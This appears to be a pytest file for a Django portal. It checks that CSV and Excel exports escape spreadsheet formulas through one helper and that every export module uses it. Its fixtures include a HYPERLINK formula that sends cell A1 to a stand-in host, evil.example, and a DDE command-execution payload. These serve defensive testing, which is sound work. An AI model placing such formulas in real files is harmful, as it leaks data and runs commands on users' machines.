"""Every export escapes spreadsheet formulas through one helper (issue 24, low findings).

On the old main the match-results Excel stored an input id ``=HYPERLINK(...)`` as a
live formula, and the open-licence sync CSV and the talent CSV wrote cells as given.
"""

from __future__ import annotations

import ast
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from portal.exports import csv_row, safe_cell, xlsx_append
from tests.matching.conftest import _eager_celery, _test_settings, cn_patents, staff_user  # noqa: F401

REPO = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此")'


@pytest.mark.parametrize(
    "value",
    [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", " =1+1", "=cmd|' /C calc'!A0"],
)
def test_formula_text_is_shown_as_typed(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [12, 3.5, None, "CN112345678A", "山东大学", "a=b"])
def test_plain_values_pass_unchanged(value):
    assert safe_cell(value) == value
    assert csv_row([value]) == ["" if value is None else value]


def test_xlsx_cells_are_text_not_formulas():
    workbook = openpyxl.Workbook()
    xlsx_append(workbook.active, [EVIL, 7])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet_xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    cells = next(
        openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=True)
    )
    assert cells == ("'" + EVIL, 7)


@pytest.mark.django_db
def test_match_results_excel_does_not_turn_an_input_id_into_a_link(client, staff_user, cn_patents):  # noqa: F811
    workbook = openpyxl.Workbook()
    workbook.active.append(["id", "text"])
    workbook.active.append([EVIL, "高压输电线路驱鸟"])
    workbook.active["A2"].data_type = "s"  # the attacker's id is text in their sheet
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    buffer.name = "needs.xlsx"
    client.force_login(staff_user)
    response = client.post(reverse("matching:match_batch"), {"file": buffer})
    assert response.status_code == 200
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    rows = list(
        openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    )
    assert rows[1][0] == "'" + EVIL


# Every module that writes CSV or Excel for people to open must use the helper.
WRITERS = ("csv.writer", "csv.DictWriter", "Workbook")
NOT_EXPORTS = {
    # PostgreSQL COPY input, never opened in a spreadsheet.
    "patents/importing/writer/copy.py",
    # Writes machine-read cluster ids for the disambiguation benchmark.
    "talent/management/commands/disambiguate_inventors.py",
    # Writes the name-frequency reference table in data/ (counts, read back by the engine).
    "talent/disambiguation/frequencies.py",
}


def _writes_spreadsheets(source: str) -> bool:
    tree = ast.parse(source)
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = (
                f"{getattr(func.value, 'id', '')}.{func.attr}"
                if isinstance(func, ast.Attribute)
                else getattr(func, "id", "")
            )
            if name in WRITERS or name.endswith(".Workbook"):
                return True
    return False


def test_every_export_module_uses_the_one_helper():
    offenders = []
    for path in REPO.glob("*/**/*.py"):
        rel = path.relative_to(REPO).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/", "data/")) or rel in NOT_EXPORTS:
            continue
        source = path.read_text(encoding="utf-8")
        if (
            _writes_spreadsheets(source)
            and not ("portal.exports" in source or "from .exports import" in source)
            and rel != "portal/exports.py"
        ):
            offenders.append(rel)
    assert offenders == []
